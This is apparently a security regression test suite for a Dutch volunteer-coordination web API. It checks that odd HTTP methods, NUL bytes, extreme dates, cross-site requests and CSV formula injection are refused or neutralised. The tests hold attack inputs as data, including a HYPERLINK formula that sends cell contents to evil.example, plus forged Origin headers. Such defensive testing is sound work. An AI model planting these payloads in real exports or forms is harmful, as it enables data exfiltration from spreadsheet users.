// Issue 9, findings 3, 8, 9, 10 (and issue 10 defect 9): each attack as the outside test ran it,
// now answered safely, with what was stored read back.
import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { DateTime } from "luxon";
import { io } from "socket.io-client";
import type { Service } from "../../api/src/bootstrap";
import { sharedStack } from "../helpers/stack";
import { anonymous, login, newUser, Client } from "../helpers/http";
import { raw } from "../helpers/raw";

const ZONE = "Europe/Amsterdam";
const daysAgo = (n: number) => DateTime.now().setZone(ZONE).minus({ days: n }).toISODate()!;

describe("HTTP hardening (issue 9)", function () {
  this.timeout(120_000);
  let s: Service;
  let coordinator: Client;
  let admin: Client;
  before(async () => {
    s = await sharedStack();
    coordinator = await login(s, "coordinator");
    admin = await login(s, "admin");
  });

  describe("finding 8: odd methods, NUL bytes, extreme dates, database faults", () => {
    it("TRACE and PROPFIND anywhere → 405 problem with Allow (not 500)", async () => {
      for (const method of ["TRACE", "PROPFIND", "MKCOL"]) {
        for (const path of ["/api/v1/budgets", "/", "/api/v1/auth/login"]) {
          const res = await raw(s.url, method, path);
          expect(res.status, `${method} ${path}`).to.equal(405);
          expect(res.headers.allow).to.contain("GET");
          expect(res.headers["content-type"]).to.contain("application/problem+json");
          expect(res.body.title).to.equal("Method not allowed");
        }
      }
    });

    it("a known method a route does not take → 405 problem", async () => {
      const res = await coordinator.request("DELETE", "/api/v1/budgets/summary");
      expect(res.status).to.equal(405);
      expect(res.headers.get("content-type")).to.contain("application/problem+json");
    });

    it("?q=%00 on /budgets, /budgets/export.csv and /admin/users → 400", async () => {
      for (const [c, path] of [
        [coordinator, "/api/v1/budgets?q=%00"],
        [coordinator, "/api/v1/budgets/export.csv?q=%00"],
        [admin, "/api/v1/admin/users?q=%00"],
        [admin, "/api/v1/admin/users?q=a%00b"],
      ] as const) {
        const res = await c.get(path);
        expect(res.status, path).to.equal(400);
        expect(res.headers.get("content-type")).to.contain("application/problem+json");
      }
    });

    it("POST /time-entries with an extreme date → 422 and nothing stored", async () => {
      const m = await newUser(s, { roles: ["member"], unitId: "rotterdam" });
      for (const date of ["+275760-09-13T00:00:00.000Z", 8.64e15, "-271821-04-20T00:00:00.000Z"]) {
        const res = await m.client.post("/api/v1/time-entries", { date, hours: 1, category: "network" });
        expect(res.status, String(date)).to.equal(422);
        expect(res.body.errors[0].path).to.equal("date");
      }
      expect((await m.client.get("/api/v1/time-entries?mine=1")).body.data).to.have.length(0);
    });

    it("a MongoDB pool/network error anywhere is a 503 problem", async () => {
      const { toProblem } = await import("../../api/src/http/errors");
      const mongoose = (await import("mongoose")).default;
      class PoolClearedOnNetworkError extends mongoose.mongo.MongoNetworkError {
        override get name() {
          return "PoolClearedOnNetworkError";
        }
      }
      const pool = new PoolClearedOnNetworkError("Connection pool for 127.0.0.1:27017 was cleared because another operation failed");
      for (const err of [
        pool,
        new mongoose.mongo.MongoNetworkError("socket closed"),
        new mongoose.mongo.MongoServerSelectionError("Server selection timed out after 5000 ms", { type: "Unknown", servers: new Map() } as never),
        Object.assign(new Error("wrapped"), { cause: pool }),
      ]) {
        const p = toProblem(err);
        expect(p.status, err.name).to.equal(503);
      }
    });
  });

  describe("finding 9: strict dates, clean text, UTF-8 JSON only", () => {
    it("date null/true/0/-1/123 and 2026-02-30 are refused with a machine code, never stored as 1970 or March", async () => {
      const m = await newUser(s, { roles: ["member"], unitId: "rotterdam" });
      for (const date of [null, true, 0, -1, 123, "2026-02-30", "1970-01-01", "2026-12-01T10:00"]) {
        const res = await m.client.post("/api/v1/time-entries", { date, hours: 1, category: "network" });
        expect(res.status, JSON.stringify(date)).to.equal(422);
        expect(res.body.errors.map((e: { path: string }) => e.path)).to.include("date");
      }
      expect((await m.client.get("/api/v1/time-entries?mine=1")).body.data).to.have.length(0);
      const ok = await m.client.post("/api/v1/time-entries", { date: daysAgo(1), hours: 1, category: "network" });
      expect(ok.status, ok.text).to.equal(201);
    });

    it("NUL bytes, control characters and lone surrogates in names, titles and notes → 422, nothing stored", async () => {
      const m = await newUser(s, { roles: ["member"], unitId: "rotterdam" });
      for (const note of ["a\u0000b", "bell\u0007", "\ud800", "x\udc00y"]) {
        const res = await m.client.post("/api/v1/time-entries", { date: daysAgo(2), hours: 1, category: "network", note });
        expect(res.status, JSON.stringify(note)).to.equal(422);
      }
      const badUser = await admin.post("/api/v1/admin/users", {
        username: `nul${Date.now()}`,
        password: "long-enough-1",
        name: "Evil\u0000Name",
        roles: ["requester"],
        unitId: "amsterdam",
      });
      expect(badUser.status).to.equal(422);
      const requester = await login(s, "requester");
      const before = (await requester.get("/api/v1/requests?mine=1")).body.data.length;
      const badRequest = await requester.post("/api/v1/requests", {
        title: "Hulp \ud83d nodig",
        description: "tekst",
        expertise: ["culture.somali"],
        urgency: "planned",
        unitId: "amsterdam",
      });
      expect(badRequest.status).to.equal(422);
      expect((await requester.get("/api/v1/requests?mine=1")).body.data.length).to.equal(before);
      // Multi-line text keeps its newlines and tabs.
      const fine = await m.client.post("/api/v1/time-entries", { date: daysAgo(3), hours: 1, category: "network", note: "regel 1\nregel\t2 👍" });
      expect(fine.status, fine.text).to.equal(201);
    });

    it("JSON with charset=utf-16 (or another type) → 415", async () => {
      const m = await newUser(s, { roles: ["member"], unitId: "rotterdam" });
      const body = Buffer.from(JSON.stringify({ date: daysAgo(4), hours: 1, category: "network" }), "utf16le");
      const res = await raw(s.url, "POST", "/api/v1/time-entries", {
        body,
        headers: { authorization: `Bearer ${m.client.token}`, "content-type": "application/json; charset=utf-16" },
      });
      expect(res.status).to.equal(415);
      const form = await raw(s.url, "POST", "/api/v1/time-entries", {
        body: "date=2026-01-01",
        headers: { authorization: `Bearer ${m.client.token}`, "content-type": "application/x-www-form-urlencoded" },
      });
      expect(form.status).to.equal(415);
      expect((await m.client.get("/api/v1/time-entries?mine=1")).body.data).to.have.length(0);
    });
  });

  describe("finding 10: cross-site requests", () => {
    async function cookieOf(username: string) {
      const res = await anonymous(s).post("/api/v1/auth/login", { username, password: "demo" });
      return res.headers.get("set-cookie")!.split(";")[0]!;
    }
    async function pendingEntry() {
      const m = await newUser(s, { roles: ["member"], unitId: "rotterdam" });
      const e = await m.client.post("/api/v1/time-entries", { date: daysAgo(5), hours: 5, category: "operational" });
      expect(e.body.status).to.equal("pending");
      return e.body.id as string;
    }
    const own = () => new URL(s.url).origin;

    it("cookie + foreign Origin + text/plain + empty body on approve → refused; the entry stays pending", async () => {
      const cookie = await cookieOf("coordinator");
      const id = await pendingEntry();
      const attempts: Record<string, string>[] = [
        { origin: "https://evil.example", "content-type": "text/plain" },
        { origin: "https://evil.example", "content-type": "application/json" },
        { origin: "null", "content-type": "application/json" },
        { "content-type": "application/json" }, // neither Origin nor Referer
        { referer: "https://evil.example/page", "content-type": "application/json" },
      ];
      for (const h of attempts) {
        const res = await raw(s.url, "POST", `/api/v1/time-entries/${id}/approve`, {
          body: h["content-type"] === "application/json" ? "{}" : "",
          headers: { cookie, ...h },
        });
        expect(res.status, JSON.stringify(h)).to.equal(403);
        expect(res.body.title).to.equal("Cross-site request refused");
      }
      const sameOriginText = await raw(s.url, "POST", `/api/v1/time-entries/${id}/approve`, {
        body: "",
        headers: { cookie, origin: own(), "content-type": "text/plain" },
      });
      expect(sameOriginText.status).to.equal(415);
      const list = (await coordinator.get("/api/v1/time-entries?status=pending")).body.data.map((e: { id: string }) => e.id);
      expect(list).to.include(id);
      // The app itself (same origin, JSON) still works with the cookie.
      const ok = await raw(s.url, "POST", `/api/v1/time-entries/${id}/approve`, {
        body: "{}",
        headers: { cookie, origin: own(), "content-type": "application/json" },
      });
      expect(ok.status, ok.text).to.equal(200);
      const viaReferer = await raw(s.url, "POST", `/api/v1/time-entries/${await pendingEntry()}/approve`, {
        body: "{}",
        headers: { cookie, referer: `${own()}/coordinator/approvals`, "content-type": "application/json" },
      });
      expect(viaReferer.status, viaReferer.text).to.equal(200);
    });

    it("a login form posted from a foreign page is refused", async () => {
      const res = await raw(s.url, "POST", "/api/v1/auth/login", {
        body: JSON.stringify({ username: "requester", password: "demo" }),
        headers: { origin: "https://evil.example", "content-type": "application/json" },
      });
      expect(res.status).to.equal(403);
    });

    it("socket.io refuses the cookie from a foreign Origin and accepts it from our own", async () => {
      const cookie = await cookieOf("coordinator");
      const connect = (origin: string) =>
        new Promise<string>((resolve) => {
          const sock = io(s.url, { transports: ["websocket"], reconnection: false, extraHeaders: { cookie, origin } });
          sock.on("connect", () => (sock.close(), resolve("connected")));
          sock.on("connect_error", (e) => (sock.close(), resolve(e.message)));
        });
      expect(await connect("https://evil.example")).to.equal("forbidden origin");
      expect(await connect(own())).to.equal("connected");
    });

    it("the helpline webhook (API key, any body) keeps answering", async () => {
      const res = await raw(s.url, "POST", "/api/v1/helpline/route", {
        body: "not json at all",
        headers: { "x-api-key": "demo-telephony-key", "content-type": "text/plain", origin: "https://pbx.example" },
      });
      expect(res.status).to.equal(200);
      expect(res.body.action).to.be.oneOf(["member", "rsc"]);
    });
  });

  describe("finding 3 and issue 10.9: CSV formulas and the Dutch export", () => {
    const evil = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)"];

    it("formula names come out neutralised in both CSVs; numbers stay numbers", async () => {
      const ids: string[] = [];
      for (const name of evil) ids.push((await newUser(s, { roles: ["member"], unitId: "zeeland-west-brabant", name })).memberId!);
      const zwb = await newUser(s, { roles: ["coordinator"], unitId: "zeeland-west-brabant", scope: { units: ["zeeland-west-brabant"], networks: [] } });
      // Push one member below zero so a negative number is exported.
      const o = await zwb.client.post("/api/v1/budgets/overrides", { memberId: ids[3], extraHours: -1000, reason: "Test negatief saldo" });
      expect(o.status, o.text).to.equal(201);
      const json = (await zwb.client.get("/api/v1/budgets?unit=zeeland-west-brabant")).body.data as { memberId: string; name: string; remaining: number }[];
      const negative = json.find((b) => b.memberId === ids[3])!;
      expect(negative.remaining).to.be.below(0);

      const machine = await fetch(`${s.url}/api/v1/budgets/export.csv?unit=zeeland-west-brabant`, { headers: { authorization: `Bearer ${zwb.client.token}` } });
      const mtext = await machine.text();
      const mrows = parse(mtext, { bom: true, columns: true }) as Record<string, string>[];
      for (const name of evil) {
        const row = mrows.find((r) => r.name === `'${name}`);
        expect(row, name).to.not.equal(undefined);
      }
      expect(mrows.every((r) => !/^[=+\-@\t\r]/.test(r.name!))).to.equal(true);
      expect(mtext).to.contain(`,${negative.remaining},`); // a bare number, dot decimals

      const nl = await fetch(`${s.url}/api/v1/budgets/export.csv?unit=zeeland-west-brabant&format=nl`, {
        headers: { authorization: `Bearer ${zwb.client.token}` },
      });
      expect(nl.status).to.equal(200);
      expect(nl.headers.get("content-disposition")).to.match(/^attachment; filename="ndv-budgetten-\d{4}-zeeland-west-brabant\.csv"$/);
      const bytes = new Uint8Array(await nl.arrayBuffer());
      expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
      const ntext = Buffer.from(bytes).toString("utf8");
      const header = ntext.slice(1).split("\r\n")[0]!;
      expect(header.split(";")[0]).to.equal('"Naam"');
      expect(header).to.contain('"Eenheid"').and.contain('"Resterend (uur)"');
      const nrows = parse(ntext, { bom: true, columns: true, delimiter: ";" }) as Record<string, string>[];
      for (const name of evil)
        expect(
          nrows.some((r) => r.Naam === `'${name}`),
          name,
        ).to.equal(true);
      expect(nrows.every((r) => r.Eenheid === "Zeeland-West-Brabant")).to.equal(true);
      const negRow = nrows.find((r) => r.Naam === "'-1+1")!;
      expect(negRow["Resterend (uur)"]).to.equal(String(Math.round(negative.remaining * 100) / 100).replace(".", ","));
      expect(ntext).to.contain(`;${String(Math.round(negative.remaining * 100) / 100).replace(".", ",")}`); // unquoted: a number
    });
  });
});
